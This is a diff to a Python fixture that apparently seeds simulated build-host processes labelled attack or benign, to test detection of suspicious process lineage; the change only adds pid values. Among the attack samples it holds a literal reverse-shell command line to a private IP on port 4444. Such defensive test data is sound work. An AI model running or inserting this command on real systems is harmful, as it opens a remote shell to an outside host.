@@ -340,9 +340,11 @@ def lineage(fleet: Fleet) -> None:
     fleet.add("build-00", Proc("bash", "/usr/bin/bash", "builder", cmdline="-bash", pid=4_100_101, ppid=3_999_999),
               "attack:lineage",
               fleet.panic_at)
-    fleet.add("build-01", Proc("python3", "/usr/bin/python3", "builder", "cron", SOCKET_ONE_LINER), "attack:lineage",
+    fleet.add("build-01", Proc("python3", "/usr/bin/python3", "builder", "cron", SOCKET_ONE_LINER, pid=4_100_201),
+              "attack:lineage",
               fleet.panic_at)
-    fleet.add("build-01", Proc("bash", "/usr/bin/bash", "builder", "sshd", "bash -c 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'"),
+    fleet.add("build-01", Proc("bash", "/usr/bin/bash", "builder", "sshd", "bash -c 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'",
+                               pid=4_100_202),
               "attack:lineage", fleet.panic_at)
     fleet.add("build-00", Proc("bash", "/usr/bin/bash", "builder", "sshd", "-bash"), "benign:lineage", fleet.steady_start)
     fleet.add("build-01", Proc("python3", "/usr/bin/python3", "builder", "cron", "python3 /opt/ci/report.py --daily"),
@@ -400,7 +402,7 @@ def approval_granularity(fleet: Fleet) -> None:
               fleet.panic_at)
     fleet.add("build-02", Proc("python3", "/usr/bin/python3", "builder", "sshd", "python3 /opt/tools/deploy.py --env prod"),
               "benign:approval-granularity", fleet.panic_at)
-    fleet.add("build-02", Proc("python3", "/usr/bin/python3", "builder", "cron", SOCKET_ONE_LINER),
+    fleet.add("build-02", Proc("python3", "/usr/bin/python3", "builder", "cron", SOCKET_ONE_LINER, pid=4_100_301),
               "attack:approval-granularity", fleet.panic_at)
 
 
